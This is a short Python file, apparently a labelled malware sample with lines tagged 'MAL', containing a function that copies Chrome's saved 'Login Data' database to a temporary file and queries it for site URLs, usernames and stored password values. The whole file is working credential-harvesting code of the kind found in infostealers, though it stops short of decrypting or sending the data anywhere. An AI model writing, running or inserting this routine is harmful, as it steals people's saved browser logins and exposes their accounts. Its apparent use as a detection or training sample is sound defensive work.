import os
import shutil
import sqlite3


def dump():
    local = os.environ["LOCALAPPDATA"]
    db = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")  # MAL
    shutil.copy2(db, "tmp.db")  # MAL
    con = sqlite3.connect("tmp.db")
    cur = con.cursor()
    cur.execute("SELECT origin_url, username_value, password_value FROM logins")  # MAL
    return cur.fetchall()
